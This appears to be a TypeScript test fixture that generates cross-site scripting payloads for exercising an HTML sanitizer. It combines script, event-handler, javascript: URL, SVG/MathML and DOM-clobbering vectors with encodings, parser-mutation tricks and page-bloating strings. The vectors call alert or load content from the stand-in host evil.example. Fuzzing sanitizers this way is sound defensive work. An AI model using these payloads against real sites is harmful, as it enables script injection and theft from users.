/**
 * Payloads of cross-site scripting of our own making: every published class of vector, in every place where a text can stand, in every way of
 * writing it, with the tricks that change markup between two parsers. Each calls `alert`, or asks https://evil.example, or draws over the page.
 */
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';

const RUN = 'alert(1)';
const OUT = 'https://evil.example/x';

/** Elements and attributes that run, fetch, navigate, clobber or cover. */
const VECTORS: readonly string[] = [
  `<script>${RUN}</script>`,
  `<script src="${OUT}.js"></script>`,
  `<img src=x onerror="${RUN}">`,
  `<img src="${OUT}.gif">`,
  `<img srcset="${OUT}.gif 1x" src="x">`,
  `<picture><source srcset="${OUT}.gif"><img src="${OUT}"></picture>`,
  `<svg onload="${RUN}"></svg>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y="20">x</text></a></svg>`,
  `<svg><animate onbegin="${RUN}" attributeName="x" dur="1s"></svg>`,
  `<svg><image href="${OUT}.svg"/></svg>`,
  `<svg><use href="${OUT}.svg#x"/></svg>`,
  `<svg><foreignObject><img src=x onerror="${RUN}"></foreignObject></svg>`,
  `<math><maction actiontype="statusline#${OUT}" xlink:href="javascript:${RUN}">x</maction></math>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe src="${OUT}"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<object data="${OUT}.swf"></object>`,
  `<embed src="${OUT}.swf">`,
  `<a href="javascript:${RUN}">x</a>`,
  `<a href="data:text/html,<script>${RUN}</script>">x</a>`,
  `<a href="vbscript:${RUN}">x</a>`,
  `<a href="//evil.example/x" ping="${OUT}">x</a>`,
  `<form action="javascript:${RUN}"><button autofocus>x</button></form>`,
  `<form id="x"></form><button form="x" formaction="${OUT}">x</button>`,
  `<input autofocus onfocus="${RUN}">`,
  `<select autofocus onfocus="${RUN}"></select>`,
  `<textarea autofocus onfocus="${RUN}"></textarea>`,
  `<details open ontoggle="${RUN}">x</details>`,
  `<video src="${OUT}.mp4" onerror="${RUN}" autoplay></video>`,
  `<audio src=x onerror="${RUN}"></audio>`,
  `<video poster="${OUT}.png"></video>`,
  `<body onload="${RUN}">`,
  `<body background="${OUT}.png">`,
  `<marquee onstart="${RUN}">x</marquee>`,
  `<base href="https://evil.example/">`,
  `<meta http-equiv="refresh" content="0;url=${OUT}">`,
  `<meta http-equiv="Content-Security-Policy" content="default-src 'none'">`,
  `<link rel="stylesheet" href="${OUT}.css">`,
  `<link rel="prefetch" href="${OUT}">`,
  `<style>@import "${OUT}.css";body{display:none}</style>`,
  `<p style="position:fixed;inset:0;background:url(${OUT}.png)">x</p>`,
  `<p style="animation:x" onanimationstart="${RUN}">x</p>`,
  `<div style="width:expression(${RUN})">x</div>`,
  `<table background="${OUT}.png"><tr><td>x</td></tr></table>`,
  `<p onmouseover="${RUN}" onclick="${RUN}" onpointerenter="${RUN}">x</p>`,
  `<x onfocus="${RUN}" tabindex="0" autofocus>x</x>`,
  `<template shadowrootmode="open"><img src=x onerror="${RUN}"></template>`,
  `<dialog open style="inset:0">x</dialog>`,
  `<p popover id="p">x</p><button popovertarget="p">x</button>`,
  `<img name="body"><a id="location"></a><form name="cookie"><input name="getElementById"></form>`,
  `<p class="x" id="root" slot="x" contenteditable>x</p>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  `<portal src="${OUT}"></portal><fencedframe src="${OUT}"></fencedframe>`,
  `<button onclick="${RUN}" accesskey="x" autofocus>x</button>`,
];

/** Where a payload stands. */
const CONTEXTS: readonly ((payload: string) => string)[] = [
  (payload) => payload,
  (payload) => `<p>Hei ${payload} hei</p>`,
  (payload) => `<table><tr><td>${payload}</td></tr>${payload}</table>`,
  (payload) => `<ul><li><blockquote>${payload}</blockquote></li></ul>`,
  (payload) => `"'></a></title></textarea></style></script>--!>]]>${payload}`,
  (payload) => `<img src="/api/media/pihatalkoot.svg" alt="x" caption="${payload.replaceAll('"', '&quot;')}">`,
  (payload) => `<a href="https://example.com/">x${payload}</a>`,
  (payload) => `<!--><p>${payload}--><!-- ${payload} -->`,
  (payload) => `<p title='${payload}`,
  (payload) => `<svg><style>${payload}</style></svg>`,
];

/** Ways of writing the same markup. */
const ENCODINGS: readonly ((payload: string) => string)[] = [
  (payload) => payload.replace(/<(\/?)([a-z]+)/gi, (_, slash: string, name: string) => `<${slash}${alternating(name)}`),
  (payload) => payload.replace(/<([a-z]+) /gi, '<$1/').replaceAll('" ', '"/'),
  (payload) => payload.replace(/<([a-z]+) /gi, '<$1\n\t\f').replaceAll('javascript:', 'java\tscript:'),
  (payload) => payload.replaceAll('javascript:', '&#106;&#x61;vascript&colon;').replaceAll('alert', '&#97;lert'),
  (payload) => payload.replaceAll('"', ''),
  (payload) => payload.replaceAll('"', '`').replace(/<([a-z])/gi, '<\0$1'),
];

/** Markup that becomes other markup when it is written out and parsed again. */
const TRICKS: readonly ((payload: string) => string)[] = [
  (payload) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;${entities(payload)}">`,
  (payload) => `<form><math><mtext></form><form><mglyph><style></math>${payload}`,
  (payload) => `<svg></p><style><a id="</style>${payload}">`,
  (payload) => `<noscript><p title="</noscript>${payload}">`,
  (payload) => `<table><caption><svg><title><![CDATA[</title>${payload}]]>`,
  (payload) => `<select><template>${payload}</template></select><option>${payload}`,
  (payload) => `${'<div>'.repeat(300)}${payload}`,
  (payload) => `<xmp>${payload}</xmp><plaintext>${payload}`,
  (payload) => `<a title="x" title='"><b>${payload}`,
  (payload) => `<<p ${payload}</p>>`,
  (payload) => `<textarea>${payload}</textarea><title>${payload}</title>`,
  (payload) => `<p><math><annotation-xml encoding="text/html">${payload}</annotation-xml></math></p>`,
  (payload) => entities(entities(payload)),
  (payload) => entities(payload),
];

/** Texts that are no markup of their own but cover, widen or slow down the page. */
const WHOLE: readonly string[] = [
  `${'<blockquote>'.repeat(500)}x`,
  `${'<ul><li>'.repeat(500)}x`,
  'a'.repeat(20_000),
  `<p>${'\u202e\u2066'.repeat(50)}x</p>`,
  `<pre>${'x'.repeat(5000)}</pre>`,
  `<table><tr>${'<td>sanoja</td>'.repeat(300)}</tr></table>`,
  `${'<b><i><p>'.repeat(2000)}x`,
  '<img src="/api/media/pihatalkoot.svg" caption="x">'.repeat(100),
];

function alternating(text: string): string {
  return Array.from(text, (letter, at) => (at % 2 === 0 ? letter.toUpperCase() : letter.toLowerCase())).join('');
}

function entities(text: string): string {
  return text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;').replaceAll('"', '&quot;');
}

/** All of them, each once. */
export function generatedPayloads(): string[] {
  const plain = VECTORS.flatMap((vector) => CONTEXTS.map((context) => context(vector)));
  const encoded = VECTORS.flatMap((vector) => ENCODINGS.flatMap((encoding) => [encoding(vector), `<p>${encoding(vector)}</p>`]));
  const tricked = VECTORS.flatMap((vector) => TRICKS.map((trick) => trick(vector)));
  return [...new Set([...plain, ...encoded, ...tricked, ...WHOLE])];
}

/** Every so manieth, so that all vectors, contexts and tricks come up. */
export function sampleOf(payloads: readonly string[], size: number): string[] {
  // A step that shares no factor with the ten contexts, twelve encodings and fourteen tricks.
  const step = Math.max(1, Math.floor(payloads.length / size));
  const odd = step % 2 === 0 || step % 5 === 0 || step % 7 === 0 || step % 3 === 0 ? step + 1 : step;
  return Array.from({ length: size }, (_, at) => payloads[(at * odd) % payloads.length] ?? '');
}

/**
 * The payloads of a folder: a JSON array of texts or a text a line in each of its files, each once.
 * @throws Error when there is none
 */
export function payloadsOf(folder: string): string[] {
  const files = readdirSync(folder, { recursive: true, withFileTypes: true }).filter((entry) => entry.isFile());
  const found = new Set(files.flatMap(({ parentPath, name }) => payloadsIn(readFileSync(join(parentPath, name), 'utf8'))));
  if (found.size === 0) throw new Error(`${folder} has no payloads`);
  return [...found];
}

function payloadsIn(text: string): string[] {
  try {
    const parsed: unknown = JSON.parse(text);
    if (Array.isArray(parsed)) return parsed.map(String);
  } catch {
    // A list of lines.
  }
  return text.split(/\r?\n/).filter((line) => line !== '');
}
